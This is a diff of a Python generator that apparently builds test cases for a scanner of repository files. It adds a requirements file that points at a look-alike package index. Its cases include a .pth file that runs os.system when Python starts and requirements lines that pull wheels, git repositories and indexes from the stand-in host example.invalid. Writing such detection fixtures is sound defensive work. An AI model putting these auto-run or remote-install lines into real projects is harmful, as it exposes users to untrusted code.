@@ -88,7 +88,7 @@ def code() -> Shelf:
     add("sitecustomize", {"sitecustomize.py": ATTACKS["os-system"]}, "a module Python imports by itself")
     add("pth", {"evil.pth": b"import os; os.system('echo waag-inert')\n"}, "a path file that Python runs at start")
     # A wheel of the repository's own is no case: it is a file beside the list, and judged as one.
-    for id, text in (("index", b"--index-url http://example.invalid/simple\nnumpy\n"), ("extra-index", b"--extra-index-url https://example.invalid/simple\nnumpy\n"), ("url", b"https://example.invalid/evil.whl\n"), ("git", b"git+https://example.invalid/evil.git\n"),
+    for id, text in (("index", b"--index-url http://example.invalid/simple\nnumpy\n"), ("own-index", b"--index-url https://pypi.example.invalid/simple\nnumpy\n"), ("extra-index", b"--extra-index-url https://example.invalid/simple\nnumpy\n"), ("url", b"https://example.invalid/evil.whl\n"), ("git", b"git+https://example.invalid/evil.git\n"),
                      ("trusted-host", b"--trusted-host example.invalid\nnumpy\n"), ("at", b"numpy @ https://example.invalid/numpy.whl\n"), ("include", b"-r http://example.invalid/requirements.txt\n")):
         add(f"requirements-{id}", {"requirements.txt": text}, f"requirements from elsewhere: {id}")
     # A notebook that starts programs or loads pickles is an ordinary notebook; one that fetches and runs is not, whatever way it starts the shell.
